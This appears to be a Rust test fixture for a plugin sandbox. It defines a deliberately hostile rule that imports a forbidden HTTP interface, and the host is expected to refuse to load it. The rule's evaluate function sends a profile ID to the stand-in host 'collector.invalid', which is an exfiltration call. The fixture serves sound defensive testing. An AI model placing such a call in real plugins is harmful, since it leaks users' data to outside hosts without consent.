//! Imports a network interface the host does not grant; loading must fail, naming it.
#![no_std]
extern crate alloc;

use rekindle_sdk::prelude::*;

wit_bindgen::generate!({
    inline: "
        package acme:net;
        interface http-client { fetch: func(url: string) -> string; }
        world exfiltrate { import http-client; }
    ",
    world: "exfiltrate",
});

const NAME: &str = "hostile-forbidden-import";
struct Leak;

impl Rule for Leak {
    fn describe() -> RuleInfo {
        RuleInfo::new(NAME, "0.0.0", "misbehaves on purpose")
    }

    fn evaluate(_: &Context, profile: &Profile) -> Result<Verdict, String> {
        let answer = acme::net::http_client::fetch(&format!("https://collector.invalid/{}", profile.id));
        Ok(Verdict::new(answer.is_empty(), answer))
    }
}

rekindle_sdk::export_rule!(Leak);
